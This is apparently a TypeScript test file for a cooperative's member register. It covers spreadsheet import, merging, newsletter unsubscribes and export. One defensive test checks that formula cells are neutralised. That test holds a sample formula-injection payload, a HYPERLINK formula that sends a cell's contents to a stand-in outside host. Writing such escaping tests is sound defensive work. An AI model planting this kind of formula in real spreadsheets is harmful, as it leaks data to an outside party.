import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { ForbiddenError, type Actor } from "@/lib/auth/actor";
import { importSpreadsheet } from "@/lib/members/import";
import { registerTable } from "@/lib/members/export";
import { toCsv, toXlsx } from "@/lib/spreadsheet";
import { parseSpreadsheet } from "@/lib/members/import-file";
import { getMember, listMembers } from "@/lib/members/service";
import { actorFor, createCooperative, createMember } from "@/tests/factories/people";
import { csvText, REGISTER_HEADERS, registerRows, xlsxBuffer } from "../fixtures/spreadsheets";

let coordinator: Actor;
const CATEGORIES = [
  "usager·es et habitant·es",
  "salarié·es",
  "partenaires du quartier",
  "soutiens militants",
];

const xlsx = async (rows: (string | number | Date)[][], name = "registre.xlsx") =>
  new File([new Uint8Array(await xlsxBuffer(REGISTER_HEADERS, rows))], name);

beforeAll(async () => {
  const { cooperative } = await createCooperative();
  coordinator = await actorFor(
    (await createMember(cooperative.id, { isCoordinator: true, email: "coord@exemple.org" })).person.id,
  );
  for (const [position, name] of CATEGORIES.entries()) {
    await db.category.create({
      data: {
        cooperativeId: cooperative.id,
        name,
        position,
        kind: position === 0 ? "BENEFICIARY" : position === 1 ? "EMPLOYEE" : "OTHER",
      },
    });
  }
});

describe("importing the register", () => {
  it("imports nothing when one row is wrong, and names that row", async () => {
    const rows = registerRows(60, CATEGORIES);
    rows[45]![4] = "catégorie inconnue"; // spreadsheet line 47 (header is line 1)
    const before = await db.membership.count();
    const result = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: true,
    });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error).toBe("rowErrors");
    expect(result.preview?.errors).toEqual([
      { line: 47, field: "category", code: "categoryUnknown", value: "catégorie inconnue" },
    ]);
    expect(await db.membership.count()).toBe(before);
  });

  it("previews without writing, then imports the corrected file in one go", async () => {
    const rows = registerRows(60, CATEGORIES);
    const preview = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: false,
    });
    expect(preview).toMatchObject({ ok: true, imported: false, preview: { toCreate: 60, toUpdate: 0 } });
    expect(await listMembers(coordinator)).toHaveLength(1);

    const result = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: true,
    });
    expect(result).toMatchObject({ ok: true, imported: true });
    const members = await listMembers(coordinator, { q: "personne1@" });
    expect(members.map((m) => [m.name, m.category])).toContainEqual(["Prénom1 Nom1", "salarié·es"]);
    const detail = await getMember(coordinator, members.find((m) => m.name === "Prénom1 Nom1")!.id);
    expect(detail).toMatchObject({
      joinedOn: "2022-06-15",
      shares: 1,
      newsletterConsent: true,
      phone: "06 00 00 01 00",
    });
    expect(await db.auditEntry.count({ where: { action: "members.imported" } })).toBe(1);
  });

  it("merges by e-mail: a second import updates the people it already knows", async () => {
    const rows = registerRows(3, CATEGORIES);
    rows[0]![3] = "07 99 99 99 99";
    const result = await importSpreadsheet(coordinator, {
      kind: "members",
      file: await xlsx(rows),
      commit: true,
    });
    expect(result).toMatchObject({ ok: true, preview: { toCreate: 0, toUpdate: 3 } });
    expect(await listMembers(coordinator)).toHaveLength(61);
    const [person0] = await listMembers(coordinator, { q: "personne0@" });
    expect((await getMember(coordinator, person0!.id))?.phone).toBe("07 99 99 99 99");
  });

  it("reads a French CSV (semicolons, BOM, accents) just as well", async () => {
    const file = new File(
      [
        csvText(REGISTER_HEADERS, [
          ["Aurore", "Dubus", "aurore@exemple.org", "", "Usager·es et habitant·es", "01/03/2021", 2, "oui"],
        ]),
      ],
      "adresses.csv",
    );
    expect(await importSpreadsheet(coordinator, { kind: "members", file, commit: true })).toMatchObject({
      ok: true,
      preview: { toCreate: 1 },
    });
    expect((await listMembers(coordinator, { q: "Dubus" }))[0]).toMatchObject({
      name: "Aurore Dubus",
      category: "usager·es et habitant·es",
      shares: 2,
    });
  });

  it("refuses an empty file, another format, and an unreadable XLSX with a message", async () => {
    expect(
      await importSpreadsheet(coordinator, {
        kind: "members",
        file: new File([""], "vide.csv"),
        commit: true,
      }),
    ).toEqual({
      ok: false,
      error: "fileEmpty",
    });
    expect(
      await importSpreadsheet(coordinator, {
        kind: "members",
        file: new File(["x"], "image.png"),
        commit: true,
      }),
    ).toEqual({
      ok: false,
      error: "fileType",
    });
    expect(
      await importSpreadsheet(coordinator, {
        kind: "members",
        file: new File(["pas un zip"], "faux.xlsx"),
        commit: true,
      }),
    ).toEqual({ ok: false, error: "fileUnreadable" });
  });

  it("is the coordinator's only", async () => {
    const member = await actorFor((await createMember(coordinator.cooperativeId)).person.id);
    await expect(
      importSpreadsheet(member, {
        kind: "members",
        file: await xlsx(registerRows(1, CATEGORIES)),
        commit: true,
      }),
    ).rejects.toBeInstanceOf(ForbiddenError);
    await expect(registerTable(member)).rejects.toBeInstanceOf(ForbiddenError);
  });
});

describe("importing newsletter recipients", () => {
  it("adds and merges by e-mail, and never re-subscribes someone who unsubscribed", async () => {
    await db.newsletterRecipient.create({
      data: {
        cooperativeId: coordinator.cooperativeId,
        email: "parti@exemple.org",
        consentAt: new Date("2023-01-01"),
        unsubscribedAt: new Date("2024-01-01"),
      },
    });
    const file = new File(
      [
        csvText(
          ["E-mail", "Nom", "Organisation", "Groupe"],
          [
            ["ars@exemple.org", "", "ARS", "institution"],
            ["ARS@exemple.org", "Agence", "", "institution"],
            ["parti@exemple.org", "Parti", "", "autre"],
          ],
          ",",
        ),
      ],
      "lettre.csv",
    );
    const result = await importSpreadsheet(coordinator, { kind: "recipients", file, commit: true });
    expect(result).toMatchObject({
      ok: true,
      preview: {
        toCreate: 1,
        toUpdate: 0,
        lines: [
          expect.objectContaining({ lines: [2, 3] }),
          expect.objectContaining({ action: "keepUnsubscribed" }),
        ],
      },
    });
    expect(await db.newsletterRecipient.findFirst({ where: { email: "ars@exemple.org" } })).toMatchObject({
      name: "Agence",
      organisation: "ARS",
      group: "INSTITUTION",
    });
    expect(
      (await db.newsletterRecipient.findFirst({ where: { email: "parti@exemple.org" } }))?.unsubscribedAt,
    ).not.toBeNull();
  });
});

describe("exporting the register", () => {
  it("writes CSV and XLSX with the import's headers, so an export imports back unchanged", async () => {
    const table = await registerTable(coordinator);
    expect(table[0]).toEqual([
      "Nom",
      "E-mail",
      "Téléphone",
      "Adresse",
      "Catégorie",
      "Date d'adhésion",
      "Parts",
      "Lettre d'information",
      "Statut",
      "Compte activé",
    ]);
    expect(table.length).toBe(
      1 + (await db.membership.count({ where: { cooperativeId: coordinator.cooperativeId } })),
    );
    const csv = toCsv(table);
    expect(csv.startsWith("\uFEFFNom;E-mail;")).toBe(true);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await toXlsx(table, "Registre")).buffer as ArrayBuffer);
    expect(workbook.worksheets[0]!.getRow(1).getCell(1).value).toBe("Nom");

    // Every associé·e with a category comes back as "already known"; the two test accounts made
    // without a category are the only rows the import asks to correct.
    const reimport = await importSpreadsheet(coordinator, {
      kind: "members",
      file: new File([csv], "export.csv"),
      commit: false,
    });
    expect(reimport.ok).toBe(false);
    if (reimport.ok) return;
    const uncategorised = table.slice(1).filter((r) => r[4] === "").length;
    expect(uncategorised).toBe(2);
    expect(reimport.preview?.errors.map((e) => e.code)).toEqual(["categoryUnknown", "categoryUnknown"]);
    expect(reimport.preview?.toCreate).toBe(0);
  });

  it("writes an English account's register in English, and that file imports back the same", async () => {
    const table = await registerTable(coordinator, { locale: "en" });
    expect(table[0]).toEqual([
      "Name",
      "E-mail",
      "Phone",
      "Address",
      "Category",
      "Membership date",
      "Shares",
      "Newsletter",
      "Status",
      "Account activated",
    ]);
    expect(table.slice(1).every((r) => ["member", "guest", "archived"].includes(r[8]!))).toBe(true);
    expect(table.slice(1).some((r) => r[8] === "member")).toBe(true);
    expect(table.slice(1).every((r) => ["yes", "no"].includes(r[9]!))).toBe(true);
    const reimport = await importSpreadsheet(coordinator, {
      kind: "members",
      file: new File([toCsv(table)], "export.csv"),
      commit: false,
    });
    expect(reimport.ok).toBe(false);
    if (reimport.ok) return;
    // The same two rows without a category, nothing new: the English file reads as the French.
    expect(reimport.preview?.errors.map((e) => e.code)).toEqual(["categoryUnknown", "categoryUnknown"]);
    expect(reimport.preview?.toCreate).toBe(0);
  });
});

describe("a cell a spreadsheet would take for a formula", () => {
  it("is written after a quote in CSV and XLSX, and an import takes the quote off again", async () => {
    const formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")';
    const table = [
      ["Nom", "E-mail", "Téléphone"],
      [formula, "formule@exemple.org", "+33 6 12 34 56 78"],
      ["@SUM(1+1)", "somme@exemple.org", "-1"],
      ["Camille Martin", "camille@exemple.org", "01 23 45 67 89"],
    ];
    const csv = toCsv(table);
    expect(csv).toContain(`"'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")"`);
    expect(csv).toContain("'+33 6 12 34 56 78");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain(";'-1");
    expect(csv).toContain("Camille Martin;camille@exemple.org;01 23 45 67 89");

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await toXlsx(table, "Registre")).buffer as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe(`'${formula}`);
    expect(row.getCell(1).formula).toBeUndefined();

    const parsed = await parseSpreadsheet(new File([csv], "export.csv"));
    if (!parsed.ok) throw new Error(parsed.error);
    expect(parsed.rows.map((r) => Object.values(r.cells))).toEqual([
      [formula, "formule@exemple.org", "+33 6 12 34 56 78"],
      ["@SUM(1+1)", "somme@exemple.org", "-1"],
      ["Camille Martin", "camille@exemple.org", "01 23 45 67 89"],
    ]);
  });
});
